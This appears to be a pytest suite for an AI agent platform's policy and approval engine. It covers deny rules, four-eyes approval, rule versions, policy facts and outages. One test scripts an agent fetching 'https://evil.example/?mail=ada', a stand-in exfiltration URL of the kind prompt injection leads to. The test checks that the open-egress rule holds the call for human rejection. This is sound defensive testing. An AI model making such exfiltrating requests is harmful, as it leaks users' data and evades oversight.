"""Rules while runs go on: what they stop at a resume, whom they ask, what they find out."""

from typing import Any
from uuid import uuid4

import pytest
from pydantic import BaseModel

from agentic.contract.errors import NotPermitted, StorageUnavailable
from agentic.contract.principal import Role
from agentic.contract.trust import Trust
from agentic.runtime.agent.script import Turn
from agentic.services.approvals.models import Verdict
from agentic.services.policy import Fact, FactRegistry, PolicyEngine, RuleDraft
from agentic.services.tools.context import CallContext
from agentic.services.tools.declarations import Tool, internal_tool
from agentic.testing import Call, Calls, Harness, Say, harness
from core_world import Done, Words, World, rows
from policy_world import MemoryRules

SEND = Calls([Call("mail.send", {"text": "hello"})])


def draft(name: str, effect: str, **fields: Any) -> RuleDraft:
    return RuleDraft.model_validate({"name": name, "effect": effect, **fields})


async def save(h: Harness, name: str, effect: str, **fields: Any) -> None:
    await h.platform.policy.save(draft(name, effect, **fields), organization_id=h.organization_id)


@pytest.mark.guarantee("D1", "D2")
async def test_a_deny_rule_added_while_a_person_is_asked_stops_the_approved_call(database: str) -> None:
    world = World()
    async with harness(tools=[world.send()], script=[SEND, Say("Done.")], database_url=database) as h:
        run_id = await h.start()
        assert len((await h.settle(run_id)).pending) == 1
        await save(h, "no-mail", "deny", tool="mail.*", reason="the mailbox is being moved")
        await h.decide(run_id)
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.effects == []
        *_, decided = (await h.tree(run_id)).decisions
        assert (decided["effect"], decided["rule_id"], decided["rule_version"]) == ("deny", "rule:no-mail", 1)
        [*_, span] = await h.calls(run_id, "mail.send")
        assert (span["status"], span["code"]) == ("error", "denied")


@pytest.mark.guarantee("D2")
async def test_a_rule_about_external_content_counts_at_the_resume_as_the_context_then_is(database: str) -> None:
    world = World()
    async with harness(tools=[world.send()], script=[SEND, Say("Done.")], database_url=database) as h:
        run_id = await h.start()
        await h.settle(run_id)
        await save(h, "only-own-words", "deny", tool="mail.*", condition="origin_trust == 'external'")
        await h.platform.database.count(
            "update agent.runs set context_trust = 'external' where id = %(id)s", {"id": run_id}
        )
        await h.decide(run_id)
        await h.settle(run_id)
        assert world.effects == []


async def test_the_version_of_the_rule_that_decided_is_in_the_decision_and_on_the_approval(database: str) -> None:
    world = World()
    async with harness(tools=[world.write()], script=[Calls([Call("notes.save", {"text": "a"})]), Say("Done.")], database_url=database) as h:  # fmt: skip
        for reason in ("first wording", "second wording"):
            await save(h, "notes-ask", "require_approval", tool="notes.*", reason=reason)
        run_id = await h.start()
        [asked] = (await h.settle(run_id)).pending
        assert (asked.rule_id, asked.rule_version, asked.reason) == ("rule:notes-ask", 2, "second wording")
        await h.decide(run_id)
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.of("notes.save") == ["a"]
        decisions = [(row["effect"], row["rule_id"], row["rule_version"]) for row in (await h.tree(run_id)).decisions]
        assert decisions == [("require_approval", "rule:notes-ask", 2), ("allow", "rule:notes-ask", 2)]


@pytest.mark.guarantee("A5")
async def test_under_four_eyes_whoever_started_the_run_does_not_decide(database: str) -> None:
    world, second = World(), uuid4()
    async with harness(tools=[world.send()], script=[SEND, Say("Done.")], database_url=database) as h:
        await h.platform.approval_store.put_member(h.organization_id, second, Role.APPROVER)
        await save(h, "two-people", "require_approval", tool="mail.*", four_eyes=True)
        run_id = await h.start()
        [asked] = (await h.settle(run_id)).pending
        assert asked.four_eyes
        for verdict in Verdict:
            with pytest.raises(NotPermitted, match="rule:two-people wants a second person"):
                await h.platform.approvals.decide(h.organization_id, asked.id, user_id=h.user_id, verdict=verdict)
        await h.platform.approvals.decide(h.organization_id, asked.id, user_id=second, verdict=Verdict.APPROVED)
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.of("mail.send") == ["hello"]


@pytest.mark.guarantee("A5", "D2")
async def test_four_eyes_asked_for_since_the_requester_approved_asks_somebody_else(database: str) -> None:
    world, second = World(), uuid4()
    async with harness(tools=[world.send()], script=[SEND, Say("Done.")], database_url=database) as h:
        await h.platform.approval_store.put_member(h.organization_id, second, Role.APPROVER)
        run_id = await h.start()
        await h.settle(run_id)
        await h.decide(run_id)  # by whoever started it
        await save(h, "two-people", "require_approval", tool="mail.*", four_eyes=True)
        [asked] = (await h.settle(run_id)).pending
        assert (asked.four_eyes, world.effects) == (True, [])
        await h.platform.approvals.decide(h.organization_id, asked.id, user_id=second, verdict=Verdict.APPROVED)
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.of("mail.send") == ["hello"]


async def test_a_fact_is_found_out_for_the_calls_that_a_rule_asks_about_and_for_no_other(database: str) -> None:
    asked: list[str] = []

    async def is_long(ctx: CallContext, args: BaseModel) -> bool:
        assert isinstance(args, Words)
        asked.append(f"{ctx.tool} {args.text}")
        return len(args.text) > 3

    world = World()
    tools = [world.write(policy_facts=("is_long",)), world.write("lists.add", policy_facts=("is_long",))]
    script: list[Turn] = [
        Calls(
            [
                Call("notes.save", {"text": "ab"}),
                Call("lists.add", {"text": "abcd"}),
                Call("notes.save", {"text": "abcd"}),
            ]
        ),
        Say("Done."),
    ]
    fact = Fact(name="is_long", type="bool", resolve=is_long)
    async with harness(tools=tools, script=script, database_url=database, facts=[fact]) as h:
        await save(h, "short-notes", "deny", tool="notes.*", condition="facts.is_long")
        run_id = await h.start()
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.effects == [("notes.save", "ab"), ("lists.add", "abcd")]
        assert asked == ["notes.save ab", "notes.save abcd"]


@pytest.mark.guarantee("D4")
async def test_a_fact_that_breaks_stops_the_call_and_not_the_run(database: str) -> None:
    async def broken(ctx: CallContext, args: BaseModel) -> bool:
        raise RuntimeError("the CRM is away")

    world = World()
    script: list[Turn] = [Calls([Call("notes.save", {"text": "ab"})]), Say("Done.")]
    fact = Fact(name="is_long", type="bool", resolve=broken)
    async with harness(tools=[world.write(policy_facts=("is_long",))], script=script, database_url=database, facts=[fact]) as h:  # fmt: skip
        await save(h, "short-notes", "deny", tool="notes.*", condition="facts.is_long")
        run_id = await h.start()
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.effects == []
        [decided] = (await h.tree(run_id)).decisions
        assert decided["reason"] == "the rule's condition could not be told, so it counts"


async def test_research_then_the_crm_then_one_email_asks_once(database: str) -> None:
    world = World()
    tools = [
        world.read("web.search", output_trust=Trust.EXTERNAL),
        world.write("crm.upsert_company", risk="medium"),
        world.write("crm.append_note", risk="medium"),
        world.send("email.send"),
    ]
    script: list[Turn] = [
        Calls([Call("web.search", {"text": "fjord"})]),
        Calls([Call("crm.upsert_company", {"text": "Fjord"}), Call("crm.append_note", {"text": "spoke at a fair"})]),
        Calls([Call("email.send", {"text": "hello"})]),
        Say("Done."),
    ]
    async with harness(tools=tools, script=script, database_url=database) as h:
        run_id = await h.start()
        settled = await h.settle(run_id)
        assert [asked.tool for asked in settled.pending] == ["email.send"]
        assert len(world.effects) == 3
        await h.decide(run_id)
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.of("email.send") == ["hello"]
        [filed] = await rows(h, "select count(*) as cards from agent.approvals where run_id = %(id)s", id=run_id)
        assert filed["cards"] == 1


def fetch(fetched: list[str]) -> Tool:
    class Address(BaseModel):
        url: str

    @internal_tool("web.fetch", "Fetches a page.", egress="open", output_trust=Trust.EXTERNAL)
    async def handler(ctx: CallContext, args: Address) -> Done:
        fetched.append(args.url)
        return Done(id=f"page of {args.url} with a link to https://fjord.example/next")

    return handler


@pytest.mark.guarantee("D1")
async def test_an_address_that_only_the_model_wrote_is_fetched_after_a_person_agreed(database: str) -> None:
    fetched: list[str] = []
    urls = ["https://fjord.example/start", "https://fjord.example/next", "https://evil.example/?mail=ada"]
    script: list[Turn] = [*(Calls([Call("web.fetch", {"url": url})]) for url in urls), Say("Done.")]
    async with harness(tools=[fetch(fetched)], script=script, database_url=database) as h:
        run_id = await h.start("Read https://fjord.example/start and tell me what is new.")
        [asked] = (await h.settle(run_id)).pending
        assert fetched == urls[:2]  # one the user named, one that stood on the page
        assert (asked.tool, asked.rule_id) == ("web.fetch", "rule:packaged/open-egress")
        await h.decide(run_id, "rejected")
        assert (await h.settle(run_id)).state == "succeeded"
        assert fetched == urls[:2]


async def test_an_organization_switches_a_packaged_rule_off_by_its_name(database: str) -> None:
    fetched: list[str] = []
    script: list[Turn] = [Calls([Call("web.fetch", {"url": "https://new.example/"})]), Say("Done.")]
    async with harness(tools=[fetch(fetched)], script=script, database_url=database) as h:
        await save(h, "open-egress", "require_approval", enabled=False)
        run_id = await h.start()
        assert (await h.settle(run_id)).state == "succeeded"
        assert fetched == ["https://new.example/"]


async def test_a_read_that_a_rule_asks_about_waits_for_a_person_like_any_other_call(database: str) -> None:
    world = World()
    script: list[Turn] = [
        Calls([Call("crm.search", {"text": "salaries"}), Call("crm.search", {"text": "fjord"})]),
        Say("Done."),
    ]
    async with harness(tools=[world.read()], script=script, database_url=database) as h:
        await save(h, "salaries", "require_approval", tool="crm.search", condition="args.text == 'salaries'")
        run_id = await h.start()
        assert len((await h.settle(run_id)).pending) == 1
        await h.decide(run_id)
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.of("crm.search") == ["salaries", "fjord"]


@pytest.mark.guarantee("D4")
async def test_while_the_rules_cannot_be_read_nothing_runs_and_the_run_goes_on_afterwards(database: str) -> None:
    world, store = World(), MemoryRules()
    store.down = True
    script: list[Turn] = [Calls([Call("notes.save", {"text": "ab"})]), Say("Done.")]
    policy = PolicyEngine(store=store, facts=FactRegistry())
    async with harness(tools=[world.write()], script=script, database_url=database, policy=policy) as h:
        run_id = await h.start()
        with pytest.raises(StorageUnavailable):
            await h.advance(run_id)
        assert (world.effects, (await h.tree(run_id)).decisions) == ([], [])
        store.down = False
        assert (await h.settle(run_id)).state == "succeeded"
        assert world.of("notes.save") == ["ab"]
